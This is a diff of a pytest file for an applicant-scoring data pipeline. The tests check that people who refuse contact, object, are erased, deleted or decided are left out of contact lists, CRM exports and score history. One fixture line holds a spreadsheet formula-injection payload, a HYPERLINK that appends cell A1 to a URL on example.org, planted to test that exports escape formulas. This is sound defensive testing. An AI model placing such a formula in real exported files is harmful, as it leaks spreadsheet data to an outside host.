@@ -1,7 +1,8 @@
 """Acted on: whom to contact, what changed and what the CRM is told, over builds of two days.
 
-The first one knows clones of an applicant of whom nothing forbids anything. By the second one has
-refused contact, one objects, one is decided, one erased, and so on: each case is planted once.
+On the first day, that of the sample, some of its applicants are on the contact list. By the second
+one has refused contact, one objects, one is decided, one is erased, and so on: each case is planted
+once.
 """
 
 from __future__ import annotations
@@ -21,13 +22,8 @@ from applicant_personas.cli import main
 from applicant_personas.export import export, read_record
 from applicant_personas.spreadsheet import csv_text, safe_text
 
-FIRST_DAY, SECOND_DAY = "2026-05-10", "2026-05-15"
-MODEL_PERSON = "P1814"
+FIRST_DAY, SECOND_DAY = "2026-05-15", "2026-05-20"
 MODELS = ["+rpt_contact_list", "+rpt_crm_export", "+rpt_score_changes"]
-OF_PERSONS = {
-    "persons": None, "applications": "application_id", "test_scores": "score_id",
-    "education_records": "education_id", "interactions": "interaction_id",
-}  # fmt: skip
 FORMULA = '=HYPERLINK("http://example.org/?"&A1;"Physics")'
 Tables = dict[str, pd.DataFrame]
 
@@ -35,115 +31,141 @@ Tables = dict[str, pd.DataFrame]
 # --- what is planted ------------------------------------------------------------------------------
 
 
-def happens(stage: str, application: str = "") -> Callable[[Tables, str], None]:
+@dataclass(frozen=True)
+class Applicant:
+    """Someone of the sample, and the application."""
+
+    person_id: str
+    application_id: str
+
+
+Change = Callable[[Tables, Applicant], None]
+
+
+def reaches(stage: str) -> Change:
     """Plant a stage that is reached between the two days."""
 
-    def change(tables: Tables, name: str) -> None:
-        event = {"application_id": f"{name}{application}", "stage": stage}
-        event["occurred_at"] = "2026-05-13 09:00"
-        tables["stage_events"].loc[len(tables["stage_events"])] = event
+    def change(tables: Tables, applicant: Applicant) -> None:
+        add_event(tables, applicant.application_id, stage)
 
     return change
 
 
-def says(column: str, value: str) -> Callable[[Tables, str], None]:
+def enrolls_elsewhere(tables: Tables, applicant: Applicant) -> None:
+    applications = tables["applications"]
+    other = applications[applications["application_id"] == applicant.application_id]
+    other = other.assign(application_id="elsewhere")
+    tables["applications"] = pd.concat([applications, other], ignore_index=True)
+    add_event(tables, "elsewhere", "enrolled")
+
+
+def says(column: str, value: str) -> Change:
     """Plant a value of the person's record."""
 
-    def change(tables: Tables, name: str) -> None:
+    def change(tables: Tables, applicant: Applicant) -> None:
         persons = tables["persons"]
-        persons.loc[persons["person_id"] == f"p-{name}", column] = value
+        persons.loc[persons["person_id"] == applicant.person_id, column] = value
 
     return change
 
 
-def is_listed_for_erasure(tables: Tables, name: str) -> None:
-    tables["erasure_list"] = pd.DataFrame({"person_id": [f"p-{name}"]})
-
-
-def is_missing(tables: Tables, name: str) -> None:
-    for table in OF_PERSONS:
-        tables[table] = tables[table][tables[table]["person_id"] != f"p-{name}"]
-
-
-def refuses_by_a_merged_record(tables: Tables, name: str) -> None:
+def refuses_by_a_merged_record(tables: Tables, applicant: Applicant) -> None:
     persons = tables["persons"]
-    alias = persons[persons["person_id"] == f"p-{name}"].assign(
-        person_id="p-alias", merged_into_person_id=f"p-{name}", can_contact="0"
+    alias = persons[persons["person_id"] == applicant.person_id].assign(
+        person_id="alias", merged_into_person_id=applicant.person_id, can_contact="0"
     )
     tables["persons"] = pd.concat([persons, alias], ignore_index=True)
+
+
+def is_listed_for_erasure(tables: Tables, applicant: Applicant) -> None:
+    tables["erasure_list"] = pd.DataFrame({"person_id": [applicant.person_id]})
+
+
+def is_missing(tables: Tables, applicant: Applicant) -> None:
+    for name, table in tables.items():
+        if "person_id" in table.columns and name != "erasure_list":
+            tables[name] = table[table["person_id"] != applicant.person_id]
+
+
+def add_event(tables: Tables, application_id: str, stage: str) -> None:
+    event = {"application_id": application_id, "stage": stage, "occurred_at": "2026-05-18 09:00"}
+    events = tables["stage_events"]
+    tables["stage_events"] = pd.concat([events, pd.DataFrame([event])]).fillna("")
 
 
 # By the second day they may be in no list.
 EXCLUDED = {
     "refuses": says("can_contact", "0"),
-    "silent": says("can_contact", ""),
-    "refuses-once": refuses_by_a_merged_record,
+    "is silent": says("can_contact", ""),
+    "refuses once": refuses_by_a_merged_record,
     "objects": says("profiling_objection", "1"),
-    "withdrawn": happens("withdrawn"),
-    "denied": happens("denied"),
-    "enrolled": happens("enrolled"),
-    "enrolled-elsewhere": happens("enrolled", "-b"),
+    "withdrew": reaches("withdrawn"),
+    "denied": reaches("denied"),
+    "enrolled": reaches("enrolled"),
+    "enrolled elsewhere": enrolls_elsewhere,
     "erased": is_listed_for_erasure,
     "deleted": says("is_deleted", "1"),
-    "test": says("is_test", "1"),
+    "a test": says("is_test", "1"),
     "missing": is_missing,
 }
-FORGOTTEN = {"objects", "erased", "deleted", "test", "missing"}
-STAY = ["plain", "moves"]
-CLONES = [*STAY, *EXCLUDED]
+# And these in no earlier day either.
+FORGOTTEN = {"objects", "erased", "deleted", "a test", "missing"}
+# Nothing forbids anything here.
+STAY = {
+    "admitted": reaches("admitted"),
+    "submits": reaches("submitted"),
+    "plain": lambda tables, applicant: None,
+}
+CASES = STAY | EXCLUDED
 
 
-def planted() -> Tables:
-    """Give the sample with clones of an applicant, a formula among the names of programs."""
-    tables = {
+def files_of_the_sample() -> Tables:
+    return {
         path.stem: pd.read_csv(path, dtype=str, keep_default_na=False)
         for path in (ROOT / "seeds/sample").glob("*.csv")
     }
-    applications, events = tables["applications"], tables["stage_events"]
-    (model,) = applications.loc[applications["person_id"] == MODEL_PERSON, "application_id"]
-    model_events = events[events["application_id"] == model]
-    for place, name in enumerate(CLONES):
-        for table, key in OF_PERSONS.items():
-            own = tables[table][tables[table]["person_id"] == MODEL_PERSON]
-            own = own.assign(person_id=f"p-{name}")
-            if key:
-                own[key] = name if table == "applications" else name + own[key]
-            else:
-                # Not the same human.
-                own["created_at"] = f"2025-10-01 10:{place:02}:00"
-            tables[table] = pd.concat([tables[table], own], ignore_index=True)
-        tables["stage_events"] = pd.concat(
-            [tables["stage_events"], model_events.assign(application_id=name)], ignore_index=True
-        )
-    other = tables["applications"].query("application_id == 'enrolled-elsewhere'")
-    other = other.assign(application_id="enrolled-elsewhere-b", program_code="PHY")
-    other_events = model_events.assign(application_id="enrolled-elsewhere-b")
-    tables["applications"] = pd.concat([tables["applications"], other], ignore_index=True)
-    tables["stage_events"] = pd.concat([tables["stage_events"], other_events], ignore_index=True)
-    programs = tables["programs"]
-    hostile = programs[:1].assign(program_code="PHY", program_name=FORMULA)
-    tables["programs"] = pd.concat([programs, hostile], ignore_index=True)
-    is_plain = tables["applications"]["application_id"] == "plain"
-    tables["applications"].loc[is_plain, "program_code"] = "PHY"
-    return tables
 
 
-def write(tables: Tables, folder: Path) -> Path:
-    folder.mkdir(exist_ok=True)
-    for name, table in tables.items():
-        table.to_csv(folder / f"{name}.csv", index=False)
-    return folder
+def choose(warehouse: Warehouse, tables: Tables) -> dict[str, Applicant]:
+    """Choose one of the contact list for each case: with one application, and one record.
+
+    Who submits between the two days is not on it yet.
+    """
+    listed = warehouse.frame(
+        "select person_id, application_id from marts.rpt_contact_list"
+        " where phase = 'applied' and stage_since < '2026-05-01' order by contact_rank"
+    )
+    persons = tables["persons"]
+    records = pd.concat([persons["person_id"], persons["merged_into_person_id"]]).value_counts()
+    n_applications = tables["applications"]["person_id"].value_counts()
+    people = listed["person_id"]
+    is_plain = (people.map(records) == 1) & (people.map(n_applications) == 1)
+    chosen = listed[is_plain].itertuples(index=False)
+    (started,) = warehouse.frame(
+        "select person_id, application_id from intermediate.int_applications_as_of as applications"
+        " inner join intermediate.int_stages_known using (application_id, known_on)"
+        " inner join staging.stg_persons using (person_id)"
+        " where is_open and reached_rank = 20 and not has_exited and can_contact"
+        " and not profiling_objection and applications_in_cycle = 1 order by all limit 1"
+    ).itertuples(index=False)
+    known = {"submits": Applicant(*started)}
+    return known | {case: Applicant(*next(chosen)) for case in CASES if case not in known}
 
 
 # --- the builds -----------------------------------------------------------------------------------
 
+SCORES = (
+    "select application_id, outcome_stage, phase, probability, persona_key"
+    " from marts.fct_enrollment_scores where outcome is null"
+)
+
 
 @dataclass(frozen=True)
 class Days:
-    """The likelihoods and lists of the first day, and the warehouse after the second."""
+    """The likelihoods of the first day, and the warehouse and what is exported on the second."""
 
+    applicants: dict[str, Applicant]
     first: pd.DataFrame
-    first_contacts: set[str]
     warehouse: Warehouse
     exports: Path
 
@@ -151,37 +173,38 @@ class Days:
     def second(self) -> pd.DataFrame:
         return self.warehouse.frame(SCORES)
 
-
-SCORES = (
-    "select application_id, outcome_stage, phase, probability, persona_key, run_id"
-    " from marts.fct_enrollment_scores where outcome is null"
-)
+    def applications(self, *cases: str) -> set[str]:
+        return {self.applicants[case].application_id for case in cases}
 
 
 @pytest.fixture(scope="module")
 def days(tmp_path_factory: pytest.TempPathFactory) -> Days:
-    """Build two days on the stored models of the sample; the second one keeps nothing but them."""
+    """Build the second day beside what the first one left, with all tables made anew."""
     folder = tmp_path_factory.mktemp("acting")
     warehouse = copied_sample(folder)
-    tables = planted()
-    source = write(tables, folder / "input")
-    build(folder, source, select=MODELS, as_of=FIRST_DAY)
+    tables = files_of_the_sample()
+    applicants = choose(warehouse, tables)
     first = warehouse.frame(SCORES)
-    first_contacts = set(warehouse.column("select application_id from marts.rpt_contact_list"))
-    for name, change in EXCLUDED.items():
-        change(tables, name)
-    happens("admitted")(tables, "moves")
-    write(tables, source)
-    shutil.rmtree(folder / "target")
+    for case, change in CASES.items():
+        change(tables, applicants[case])
+    applications, programs = tables["applications"], tables["programs"]
+    (plain,) = applications.loc[
+        applications["application_id"] == applicants["plain"].application_id, "program_code"
+    ]
+    programs.loc[programs["program_code"] == plain, "program_name"] = FORMULA
+    source, exports = folder / "input", folder / "exports"
+    source.mkdir()
+    for name, table in tables.items():
+        table.to_csv(source / f"{name}.csv", index=False)
+    shutil.rmtree(folder / "target", ignore_errors=True)
     run_dbt(
         folder, "build", "--full-refresh", "--exclude-resource-type", "test", "unit_test",
         "--threads", "2", "--select", *MODELS, as_of=SECOND_DAY, input_path=str(source),
-        export_path=str(folder / "exports"),
+        export_path=str(exports),
     )  # fmt: skip
-    exports = folder / "exports"
     for name in ("contact_list", "score_changes", "crm"):
         assert write_list(name, warehouse, exports) == 0
-    return Days(first, first_contacts, warehouse, exports)
+    return Days(applicants, first, warehouse, exports)
 
 
 def write_list(name: str, warehouse: Warehouse, folder: Path) -> int:
@@ -197,30 +220,31 @@ def read_csv(path: Path) -> pd.DataFrame:
 
 
 def test_who_refuses_objects_is_decided_erased_or_deleted_is_in_no_list(days: Days) -> None:
-    assert set(CLONES) <= days.first_contacts
     contacts = set(days.warehouse.column("select application_id from marts.rpt_contact_list"))
-    assert set(STAY) <= contacts
-    assert not contacts & {*EXCLUDED, "enrolled-elsewhere-b"}
+    assert days.applications(*STAY) <= contacts
+    assert not contacts & {*days.applications(*EXCLUDED), "elsewhere"}
     told = set(days.warehouse.column("select application_id from marts.rpt_crm_export"))
     assert told == contacts
 
 
 def test_no_file_that_is_exported_holds_them(days: Days) -> None:
-    files = [*days.exports.glob("*.csv")]
-    assert len(files) == 4
-    for file in files:
-        text = file.read_text()
-        assert not [name for name in EXCLUDED if f"p-{name}," in text or f"\n{name}," in text]
-    contacts = read_csv(days.exports / "contact_list.csv")
-    assert set(STAY) <= set(contacts["application_id"])
-    assert contacts["can_contact"].all()
+    excluded = {text for case in EXCLUDED for text in vars(days.applicants[case]).values()}
+    found = set()
+    for name in ("contact_list.csv", "score_changes.csv", "crm_2*.csv", "crm_exported.csv"):
+        (file,) = days.exports.glob(name)
+        with file.open(encoding="utf-8-sig", newline="") as lines:
+            cells = {cell for line in csv.reader(lines) for cell in line}
+        assert not cells & excluded
+        found |= cells
+    assert days.applications(*STAY) <= found
+    assert read_csv(days.exports / "contact_list.csv")["can_contact"].all()
 
 
 def test_the_middle_of_the_scale_comes_first(days: Days) -> None:
     listed = days.warehouse.frame("select * from marts.rpt_contact_list order by contact_rank")
     assert (listed["probability"] - 0.5).abs().round(9).is_monotonic_increasing
     assert set(listed["phase"]) == {"applied", "admitted", "deposited"}
-    assert listed["program_name"].eq(FORMULA).sum() == 1
+    assert listed["program_name"].eq(FORMULA).any()
     assert listed[["persona_name", "band", "reason_1", "stage"]].notna().all(axis=None)
     by_person = listed.groupby("person_id")["person_rank"]
     assert (by_person.min() == 1).all()
@@ -245,16 +269,19 @@ def test_days_since_the_last_touch_are_those_of_the_files(days: Days) -> None:
 
 def test_each_day_is_remembered_and_nobody_who_is_gone(days: Days) -> None:
     history = days.warehouse.frame("select * from marts.fct_score_history")
-    assert set(history["as_of"].astype(str)) == {FIRST_DAY, SECOND_DAY}
     by_day = {str(day)[:10]: set(part["application_id"]) for day, part in history.groupby("as_of")}
+    assert by_day.keys() == {FIRST_DAY, SECOND_DAY}
     assert by_day[SECOND_DAY] == set(days.second["application_id"])
-    assert by_day[FIRST_DAY] == set(days.first["application_id"]) - FORGOTTEN
-    assert not [name for name in FORGOTTEN if f"p-{name}" in set(history["person_id"])]
+    gone = days.applications(*FORGOTTEN)
+    assert by_day[FIRST_DAY] == set(days.first["application_id"]) - gone
+    assert days.applications("withdrew", "refuses") <= by_day[FIRST_DAY]
+    assert not {days.applicants[case].person_id for case in FORGOTTEN} & set(history["person_id"])
 
 
 def test_changes_are_the_difference_of_the_two_days(days: Days) -> None:
     key = ["application_id", "outcome_stage"]
-    first = days.first[~days.first["application_id"].isin(FORGOTTEN)]
+    gone = days.applications(*FORGOTTEN)
+    first = days.first[~days.first["application_id"].isin(gone)]
     both = first.merge(days.second, on=key, how="outer", suffixes=("_then", "_now"))
     change = (both["probability_now"] - both["probability_then"]).round(9)
     expected = both[change.isna() | (change.abs() >= 0.05)].sort_values(key, ignore_index=True)
@@ -279,50 +306,68 @@ def test_why_says_what_happened_since_and_no_model_was_fitted_anew(days: Days) -
         "application_id"
     )
     assert not found["is_refit"].dropna().astype(bool).any()
-    assert found.loc["moves", "news"] == "admitted, portal login"
-    assert found.loc["moves", ["from_phase", "to_phase"]].tolist() == ["applied", "admitted"]
-    assert found.loc["withdrawn", "direction"] == "left"
-    assert found.loc["withdrawn", "why"] == "Since then: withdrawn, portal login."
-    assert "plain" not in found.index
+    admitted, withdrew, plain = (
+        days.applicants[case].application_id for case in ("admitted", "withdrew", "plain")
+    )
+    assert found.loc[admitted, ["from_phase", "to_phase"]].tolist() == ["applied", "admitted"]
+    assert found.loc[admitted, "why"] == "Since then: admitted."
+    (submits,) = days.applications("submits")
+    assert found.loc[submits, ["direction", "why"]].tolist() == [
+        "entered", "Since then: submitted."
+    ]  # fmt: skip
+    assert found.loc[withdrew, "direction"] == "left"
+    assert found.loc[withdrew, "why"] == "Since then: withdrawn."
+    assert plain not in found.index
 
 
 # --- what is exported -----------------------------------------------------------------------------
 
 
 def test_what_was_exported_goes_out_again_when_it_changed_and_not_before(days: Days) -> None:
-    """A second export is empty, and so is the mart after the next build; then three rows change."""
+    """A second export is empty; the next build finds one likelihood moved, and one row lost."""
     record = days.exports / "crm_exported.csv"
-    told = read_csv(next(days.exports.glob("crm_2*.csv")))
+    (first_export,) = days.exports.glob("crm_2*.csv")
+    told = read_csv(first_export)
     at = datetime.datetime(2030, 1, 1)
     of_sample = ("crm", days.warehouse.database, "marts", days.exports)
     assert len(told) == len(read_record(record)) > 400
-    assert export(*of_sample, at).endswith(f"0 rows new or changed, as known on {SECOND_DAY}.")
+    assert export(*of_sample, at).endswith(f": 0 rows new or changed, as known on {SECOND_DAY}.")
     assert read_csv(days.exports / "crm_20300101T000000Z.csv").empty
     assert len(read_record(record)) == len(told)
-    lines = list(csv.reader(record.open()))
-    moved = {"plain": 0.05, "moves": 0.01}
-    (code,) = days.warehouse.column("select md5('A0001')")
-    by_code = {days.warehouse.column(f"select md5('{name}')")[0]: by for name, by in moved.items()}
-    for line in lines[1:]:
-        line[2] = str(round(float(line[2]) - by_code.get(line[0], 0), 2))
-    kept = [line for line in lines if line[0] != code]
-    assert len(kept) == len(lines) - 1
+    moved, still, lost = (*days.applications("plain"), *days.applications("admitted"), "A0001")
+    codes = {
+        name: days.warehouse.column(f"select md5('{name}')")[0] for name in (moved, still, lost)
+    }
+    moves = {codes[moved]: 0.05, codes[still]: 0.01}
+    with record.open(newline="") as file:
+        header, *lines = csv.reader(file)
+    for line in lines:
+        line[2] = str(round(float(line[2]) + moves.get(line[0], 0), 2))
+    kept = [header, *(line for line in lines if line[0] != codes[lost])]
+    assert len(kept) == len(lines)
     record.write_text("\n".join(",".join(line) for line in kept) + "\n")
+    remembered = days.warehouse.frame("select * from marts.fct_score_history order by all")
     build(
         days.warehouse.database.parent, days.warehouse.database.parent / "input",
-        select=["rpt_crm_export"], as_of=SECOND_DAY, export_path=str(days.exports),
+        select=["rpt_crm_export", "fct_score_history"], as_of=SECOND_DAY,
+        export_path=str(days.exports),
     )  # fmt: skip
     changed = days.warehouse.frame("select application_id, changed from marts.rpt_crm_export")
-    assert dict(changed.to_numpy()) == {"plain": "likelihood", "A0001": "new"}
+    assert dict(changed.to_numpy()) == {moved: "likelihood", lost: "new"}
     export(*of_sample, at.replace(year=2031))
     again = read_csv(days.exports / "crm_20310101T000000Z.csv")
-    assert set(again["application_id"]) == {"plain", "A0001"}
+    assert set(again["application_id"]) == {moved, lost}
+    # The day was built a second time.
+    pd.testing.assert_frame_equal(
+        days.warehouse.frame("select * from marts.fct_score_history order by all"), remembered
+    )
 
 
 def test_of_whom_is_no_longer_listed_the_record_knows_nothing(days: Days) -> None:
     record = days.exports / "crm_exported.csv"
     lines = record.read_text()
-    gone = days.warehouse.column("select md5('withdrawn')")[0]
+    (withdrew,) = days.applications("withdrew")
+    (gone,) = days.warehouse.column(f"select md5('{withdrew}')")
     record.write_text(f"{lines}{gone},x,0.4,2026-05-10 10:00:00\nnonsense\n")
     assert gone in read_record(record)
     export("crm", days.warehouse.database, "marts", days.exports, datetime.datetime(2032, 1, 1))
@@ -338,7 +383,7 @@ def test_no_cell_runs_as_a_formula_and_numbers_stay_numbers(days: Days, delimite
         running = [cell for cell in suspects if not cell.startswith("'") and not is_number(cell)]
         assert not running
     listed = read_csv(days.exports / "contact_list.csv")
-    assert listed["program_name"].str.startswith("'=HYPERLINK").sum() == 1
+    assert listed["program_name"].str.startswith("'=HYPERLINK").any()
     changes = read_csv(days.exports / "score_changes.csv")
     assert changes["change"].min() < 0 < changes["change"].max()
     assert listed["probability"].dtype == changes["change"].dtype == float
